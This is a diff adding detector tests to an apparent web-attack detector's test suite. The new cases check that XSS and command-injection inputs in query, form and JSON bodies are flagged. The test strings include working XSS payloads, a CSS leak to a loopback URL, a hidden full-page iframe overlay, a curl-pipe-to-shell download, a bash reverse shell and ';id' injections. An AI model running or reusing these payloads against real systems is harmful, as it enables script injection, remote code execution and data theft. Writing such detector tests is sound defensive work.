@@ -3905,3 +3905,54 @@ t.test("forty-third round, from the seventy-first and seventy-second parts: LLM 
   t.same(json({ source: 'svg_source = """\n<svg width="400" height="110">\n  <rect width="300" height="100" style="fill:#E0E0E0;" /> \n</svg>\n"""\nsvg = SVG(svg_source)\nsvg' }), [], 'a notebook\'s SVG')
   for (const v of ['<svg width="400" onload="alert(1)"><rect width="3"/></svg>', '<svg width="400"><rect width="3"/><script>alert(1)</script></svg>', '<svg width="400"><a href="javascript:alert(1)"><rect width="3"/></a></svg>', '<svg height="1"><rect width="3"/><animate onbegin=alert(1) attributeName=x dur=1s>']) t.ok(q(v).includes('xss'), v)
 })
+
+t.test("forty-third round's review: a JSON text read as the application has it only where no escape made its markup; the value the cut ended by its place; a frame decoded in its URL only; every string of a document", async (t) => {
+  const form = (body: string) => detector.detect({ ...base, headers: { ...base.headers, 'content-type': 'application/x-www-form-urlencoded' }, body: Buffer.from(body) })
+  const asForm = (v: string) => encodeURIComponent(v).replace(/%20/g, '+')
+  const everywhere = (v: string, name: string) => {
+    t.ok(q(v).includes('xss'), `${name} (query)`)
+    t.ok(form(`payload=${asForm(v)}`).includes('xss'), `${name} (form)`)
+    t.ok(json({ page: v }).includes('xss'), `${name} (JSON)`)
+  }
+  // an escape the parse resolves into a quote: one string to a script shown the text as sent (Chromium ran it)
+  everywhere(`{"x":"<form id=MathJax><input name=Hub></form><script>MathJax.Hub.Config({a:['\\u0027',alert(1),'\\u0027']})</script>"}`, "MathJax's setting around \\u0027")
+  t.ok(q(`{"x":"<form id=MathJax><input name=Hub></form><script>MathJax.Hub.Config({a:['%u0027',alert(1),'%u0027']})</script>"}`).includes('xss'), '%u0027, which URLSearchParams leaves')
+  // a handler, a style's leak split across strings, a string past 32 levels or past the 512th: the text is read whole as before
+  everywhere('{"a":"<img src=x title=","k":" onerror=location=top.name>","z":"\\u0022"}', 'a handler across strings')
+  everywhere('["<input name=t value=abc><style>x{","}input[value^=a]{background:url(//127.0.0.1:9/leak?a)}</style>","\\u0022"]', 'a leak across strings')
+  let deep = '"<img src=x onerror=alert(1)>"'
+  for (let i = 0; i < 33; i++) deep = `[${deep}]`
+  everywhere(`{"z":"\\u0022","x":${deep}}`, 'a string past 32 levels')
+  t.ok(json(JSON.parse(`{"x":${deep}}`)).includes('xss'), 'and in a JSON body, every level a parse allows')
+  const wide = [...Array.from({ length: 512 }, (_, i) => `a${i}`), '<img src=x onerror=alert(1)>']
+  everywhere(`${JSON.stringify(wide).slice(0, -1)},"\\u0022"]`, 'the 513th string')
+  t.ok(json(wide).includes('xss'), 'and in a JSON body')
+  const wider = new AttackDetector({ maxInspectBytes: 1_000_000 })
+  const many = [...Array.from({ length: 5000 }, (_, i) => `a${i}`), '<img src=x onerror=alert(1)>']
+  t.ok(wider.detect({ ...base, headers: { ...base.headers, 'content-type': 'application/json' }, body: Buffer.from(JSON.stringify(many)) }).includes('xss'), 'past the 4,096th string, read whole')
+  // a complete string of the same text is no value the cut ended (the cut's MathJax setting, closed by another string's script)
+  const A = '<form id=MathJax><input name=Hub></form><script>MathJax.Hub.Config({x:['
+  const head = `{"a":"${A}","+":",top.location=top.name]});//","c":"<script>MathJax.Hub.Config({y:1})</script>","pad":"`
+  const tail = `","z":"${A}`
+  const pad = 16384 - `payload=${asForm(head + tail)}`.length
+  const cut = `payload=${asForm(`${head}${'x'.repeat(pad)}${tail}]})</script>"}`)}`
+  t.equal(cut.slice(0, 16384).endsWith(asForm(A)), true, 'the cut right after the copy')
+  t.ok(form(cut).includes('xss'), 'a copy at the cut')
+  // a frame set aside as sent only where decoding changed its URL alone (a style decoded into a page-wide overlay)
+  const frame = '<iframe src="https://www.google.com/maps/embed?pb=!1m2!2sOlin%20College" style="width:100vw%3Bposition%3Afixed%3Binset%3A0;height:100vh%3Bopacity%3A0%3Bz-index%3A99"></iframe>'
+  everywhere(frame + decodeURIComponent(frame), 'a frame and its decoded copy')
+})
+
+t.test("forty-third round's second review: a sink assigned and used again however it is, Markdown comments and Go's header narrowed", async (t) => {
+  // a sink assigned to a name is read wherever the name is used again, thrown to, a handler or a conversion (Chromium ran each)
+  for (const v of ["';x=alert;setTimeout(x)//", "';a=alert,[1].find(a)//", "';a=alert;Promise.resolve(1).then(a)//", "';a=confirm;[1].some(a)//", "';a=alert;a.call(null,1)//", "';a=prompt;a.bind(null,1)()//", "';a=alert;a?.(1)//", "';a=alert;(a)(1)//", "';a=alert;a/**/(1)//", "';a=alert;top['a'](1)//", "';a=alert;b=a;b(1)//", "';toString=alert;window+''//", "';valueOf=alert;window+1//", "';var {x=alert}={};[1].map(x)//", `';a=alert;/*${'x'.repeat(100)}*/a(1)//`, "';[1].map(x=alert)//", "';[].map.call([1],x=alert)//", "';[1].find(x=confirm)//", "';Reflect.apply(a=alert,null,[1])//", "';[name].map(a=eval)//", "';a=eval;a.call(null,name)//", "';a=eval;[name].map(a)//", "';[1].map(\n  x=eval\n)//"]) t.ok(q(v).includes('xss'), v)
+  // Python's keyword argument on a line of its own handed `prompt`, even where the cell passes it twice
+  t.same(json({ source: 'if "-pro" not in MODEL_ID:\n  interaction = client.interactions.create(\n    model=MODEL_ID,\n    input=prompt,\n  )\nelse:\n  interaction = client.interactions.create(\n    model=MODEL_ID,\n    input=prompt,\n    config=config,\n  )\n\nMarkdown(interaction.text)' }), [], 'input=prompt, twice')
+  // a Markdown comment: lines of its own only, and a download run, a reverse shell inside it still read
+  const md = (c: string) => json({ body: `# Notes\n\n${c}\n\nSome text here for the page.` })
+  for (const c of ['<!--\ncurl -s http://127.0.0.1:18778/x|sh\n-->', '<!--;curl -s http://127.0.0.1:18778/x|sh #-->', '<!--\nbash -i >& /dev/tcp/127.0.0.1/9 0>&1\n-->', '<!-- ; id ; -->']) t.ok(md(c).includes('rce'), c)
+  // Go's loop header after a line continued by `\`: `for` is an argument there, and what follows `;` runs (bash, dash, zsh ran `id`)
+  const go = (h: string) => json({ snippet: `\techo building the walker \\\n${h}\n\t\tfoo(a)\n\t}\n\treturn r\n}\n` })
+  t.ok(go('\tfor i := 0; id; i = 1 {').includes('rce'), 'a one-name condition')
+  t.ok(go('\tfor i := 0; id < .; i++ {').includes('rce'), 'a comparison')
+})
